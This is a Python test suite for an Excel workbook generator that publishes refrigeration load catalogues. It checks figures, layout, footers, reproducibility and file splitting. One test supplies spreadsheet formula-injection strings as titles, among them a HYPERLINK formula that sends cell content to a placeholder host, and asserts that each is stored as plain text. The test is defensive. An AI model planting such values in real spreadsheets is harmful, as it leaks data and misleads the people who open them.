"""The workbook, read back: its figures are those of print, and no text of a config file is a formula."""

import dataclasses
import datetime
import math
import zipfile
from decimal import ROUND_CEILING, ROUND_FLOOR, Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tablegen.dataset.dataset import DataSet
from tablegen.errors import PublishError
from tablegen.report import workbook
from tablegen.report.workbook import write_workbook
from tablegen.wording import terms
from tests.demo import demo_data, reprinted, with_inputs
from tests.us_units import W_PER

STATED = {"Minimum load": ("min_load_w", ROUND_CEILING), "Maximum load": ("max_load_w", ROUND_FLOOR)}


def thinned(data: DataSet) -> DataSet:
    """Every seventh group window and fortieth window, and every one that is empty, so that reading back is quick."""
    groups, windows = data.group_windows, data.windows
    return dataclasses.replace(
        data,
        group_windows=groups[groups["max_load_w"].isna() | (groups.index % 7 == 0)].reset_index(drop=True),
        windows=windows[windows["max_load_w"].isna() | (windows.index % 40 == 0)].reset_index(drop=True),
    )


def table(sheet: Any) -> tuple[dict[str, str], list[dict[str, Any]]]:
    """Units by heading, and the rows by heading."""
    heads, *rows = sheet.iter_rows(values_only=True)
    units = {head or unit: unit if head else "" for head, _, unit in (text.rpartition(", ") for text in heads)}
    return units, [dict(zip(units, row, strict=True)) for row in rows]


@pytest.fixture(scope="module", params=["IP", "SI"])
def made(request, tmp_path_factory) -> tuple[DataSet, Any]:
    data = thinned(reprinted(demo_data(), units=request.param))
    path = tmp_path_factory.mktemp("book") / "windows.xlsx"
    write_workbook(data, path)
    return data, openpyxl.load_workbook(path)


def three_figures(value: float, rounding: str) -> float:
    clean = Decimal(f"{value:.11e}")
    step = Decimal(1).scaleb(clean.adjusted() - 2)
    return float((clean / step).to_integral_value(rounding) * step)


@pytest.mark.parametrize(("title", "frame"), [("Group windows", "group_windows"), ("Windows", "windows")])
def test_loads_are_the_printed_ones_as_numbers(made, title, frame):
    data, book = made
    system = data.catalogue.printing.units
    units, rows = table(book[title])
    source = getattr(data, frame)
    assert len(rows) == len(source)
    assert units["Minimum load"] == units["Maximum load"] == {"IP": "kBtu/h", "SI": "kW"}[system]
    empty = 0
    for row, (_, given) in zip(rows, source.iterrows(), strict=True):
        expected = {
            k: None if math.isnan(given[c]) else three_figures(given[c] / W_PER[system], r)
            for k, (c, r) in STATED.items()
        }
        if expected["Minimum load"] is None or expected["Minimum load"] >= expected["Maximum load"]:
            empty += 1
            assert row["Minimum load"] is None and row["Maximum load"] is None
            assert row["No window because"]
            assert row["Minimum load set because"] is None
        else:
            assert {k: row[k] for k in expected} == expected
            assert row["No window because"] is None
            assert row["Maximum load set because"] == terms.reason(given["max_reason"])
        kelvin = (row["SST (dew)"] + 459.67) / 1.8 if system == "IP" else row["SST (dew)"] + 273.15
        assert kelvin == pytest.approx(given["sst_k"], abs=0.051)
    assert empty > 20


def test_one_bold_heading_with_the_filter_stays_in_view_and_is_on_every_page(made):
    data, book = made
    assert book.sheetnames == ["About", "Group windows", "Windows", "Sizes"]
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "C2"
        assert sheet.auto_filter.ref == f"A1:{sheet.dimensions.partition(':')[2]}"
        assert sheet.print_title_rows == "$1:$1"
        assert all(cell.font.bold for cell in sheet[1])
        assert [cell.value for cell in sheet[1][:3]] == ["Family", "Size", "Position in size range"]
        assert not sheet["C2"].font.bold
    for sheet in book.worksheets:
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToHeight == 0
        assert sheet.oddFooter.left.text == f"Revision {data.catalogue.printing.revision}; Data {data.fingerprint}"
        assert sheet.oddFooter.center.text == data.catalogue.printing.notice


def test_sizes_sort_by_their_numbers_and_by_their_position(made):
    data, book = made
    places = {}
    for row in book["Sizes"].iter_rows(min_row=2, max_col=3, values_only=True):
        # A size that is a letter in print stays one.
        assert isinstance(row[1], str if row[0] == "Hazel" else int | float)
        places.setdefault(row[0], []).append(row[1:])
    for own in data.catalogue.families.values():
        assert [place for _, place in sorted(places[own.display_name])] == list(range(1, len(own.sizes) + 1))
    assert [size for size, _ in sorted(places["Rowan"])] == [1.6, 2.5, 4, 6.3, 10, 16]


def test_the_workbook_may_have_a_document_number(tmp_path):
    data = thinned(demo_data())
    company = dataclasses.replace(data.catalogue.printing.company, documents={"windows": "QB-41"})
    printing = dataclasses.replace(data.catalogue.printing, company=company)
    write_workbook(with_inputs(data, printing=printing), tmp_path / "windows.xlsx")
    footer = openpyxl.load_workbook(tmp_path / "windows.xlsx")["Sizes"].oddFooter
    assert footer.left.text == f"QB-41, revision {printing.revision}; Data {data.fingerprint}"


def test_about_says_where_the_figures_come_from(made):
    data, book = made
    rows = [(a, b) for a, b in book["About"].iter_rows(values_only=True)]
    about, printing = dict(rows), data.catalogue.printing
    assert [about[k] for k in ("Title", "Company", "Notice", "Revision", "Date")] == [
        printing.title,
        printing.company.name,
        printing.notice,
        printing.revision,
        printing.date.isoformat(),
    ]
    assert about["Data fingerprint"] == data.fingerprint
    degrees = {"IP": "105 °F", "SI": "40.6 °C"}[printing.units]
    assert about["Rating point: Walk-in cooler, floating head pressure"].startswith(f"{degrees} saturated liquid")
    assert sum(label == "Caution" for label, _ in rows) > 5


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "@SUM(A1)", "-2+3", "\t=1+1", "#REF!"


def test_no_text_is_a_formula(tmp_path):
    data = thinned(demo_data())
    catalogue = data.catalogue
    title, company, group, application, charge, family = HOSTILE
    families = {
        name: dataclasses.replace(
            own,
            title=family,
            display_name=family,
            elements=tuple(dataclasses.replace(element, title=charge) for element in own.elements),
        )
        for name, own in catalogue.families.items()
    }
    path = tmp_path / "windows.xlsx"
    hostile = with_inputs(
        reprinted(data, title=title, company=company),
        groups={name: dataclasses.replace(own, title=group) for name, own in catalogue.groups.items()},
        applications={k: dataclasses.replace(own, title=application) for k, own in catalogue.applications.items()},
        families=families,
    )
    write_workbook(hostile, path)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == 4
    assert not any(b"<f>" in sheet or b"<f " in sheet or b't="e"' in sheet for sheet in sheets)
    seen = set()
    for sheet in openpyxl.load_workbook(path):
        for cell in (c for row in sheet.iter_rows(max_row=200) for c in row if isinstance(c.value, str)):
            assert cell.data_type == "s"
            if cell.value.startswith(tuple("=+-@\t#")):
                seen.add(cell.value)
                assert cell.quotePrefix
    assert seen >= set(HOSTILE)


def test_the_clock_is_not_in_the_file(tmp_path):
    data = thinned(demo_data())
    paths = [tmp_path / "one.xlsx", tmp_path / "two.xlsx"]
    for path in paths:
        write_workbook(data, path)
    assert paths[0].read_bytes() == paths[1].read_bytes()
    assert_undated(paths[0], data.catalogue.printing.date)


def assert_undated(path: Path, day: datetime.date) -> None:
    properties = openpyxl.load_workbook(path, read_only=True).properties
    assert properties.created.date() == properties.modified.date() == day
    with zipfile.ZipFile(path) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.fixture(scope="module")
def split(tmp_path_factory) -> Path:
    """A folder with the workbooks of a catalogue that is too large for one."""
    folder = tmp_path_factory.mktemp("split")
    data = thinned(demo_data())
    most = max(table["application"].value_counts().max() for table in (data.windows, data.group_windows))
    assert most < len(data.group_windows)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(workbook, "MOST_ROWS", most)
        write_workbook(data, folder / "windows.xlsx")
    return folder


def test_a_workbook_that_would_be_too_large_is_one_for_each_application(split):
    data = thinned(demo_data())
    names = {f"windows-{name}.xlsx": name for name in data.catalogue.applications}
    assert {path.name for path in split.iterdir()} == {"windows.xlsx", *names}
    rows = {"Group windows": 0, "Windows": 0}
    for file, name in names.items():
        book = openpyxl.load_workbook(split / file)
        for title in rows:
            own = table(book[title])[1]
            assert {row["Application"] for row in own} == {data.catalogue.applications[name].title}
            rows[title] += len(own)
        families = {
            data.catalogue.families[c.family].display_name for c in data.catalogue.combinations if c.application == name
        }
        assert {row["Family"] for row in table(book["Sizes"])[1]} == families
    assert rows == {"Group windows": len(data.group_windows), "Windows": len(data.windows)}


def test_the_workbook_of_all_links_to_those_of_the_applications(split):
    data = thinned(demo_data())
    book = openpyxl.load_workbook(split / "windows.xlsx")
    assert book.sheetnames == ["Workbooks", "About", "Sizes"]
    links = [(row[0].value, row[1].value) for row in book["Workbooks"].iter_rows(min_row=3)]
    applications = data.catalogue.applications.items()
    assert links == [(own.title, f'=HYPERLINK("windows-{name}.xlsx")') for name, own in applications]
    assert len(table(book["Sizes"])[1]) == len(data.sizes)


def test_a_workbook_that_is_too_large_for_one_application_is_refused_in_one_sentence(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MOST_ROWS", 20)
    data = thinned(demo_data())
    with pytest.raises(PublishError) as caught:
        write_workbook(data, tmp_path / "windows.xlsx")
    name, application = next(iter(data.catalogue.applications.items()))
    rows = max(int((own["application"] == name).sum()) for own in (data.windows, data.group_windows))
    assert str(caught.value) == (
        f"the workbook for {application.title} would have {rows:,} rows in one table, more than the 20 that a spreadsheet "
        "program opens quickly enough; split the catalogue into several, each with fewer families. windows.csv and tables.sqlite "
        "have all rows"
    )
    assert list(tmp_path.iterdir()) == []
